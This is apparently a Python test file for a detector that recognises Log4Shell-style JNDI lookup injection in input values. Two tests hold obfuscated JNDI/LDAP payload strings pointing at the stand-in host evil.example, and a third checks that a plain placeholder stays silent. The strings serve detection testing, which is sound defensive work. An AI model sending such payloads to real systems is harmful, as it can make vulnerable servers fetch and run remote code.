"""Lookups."""

from delicti.detect.contexts import Context, Place
from delicti.detect.grammar.lookup import judge

HERE = Context(Place.VALUE, "q")


def test_a_nested_lookup_is_worked_out():
    assert "evil.example" in judge("${${lower:j}ndi:${lower:l}dap://evil.example/a}", HERE).why


def test_a_default_spells_a_letter():
    assert judge("${${::-j}ndi:ldap://evil.example/a}", HERE).confidence >= 0.9


def test_a_placeholder_is_silent():
    assert judge("${AUCTION_PRICE}", HERE) is None
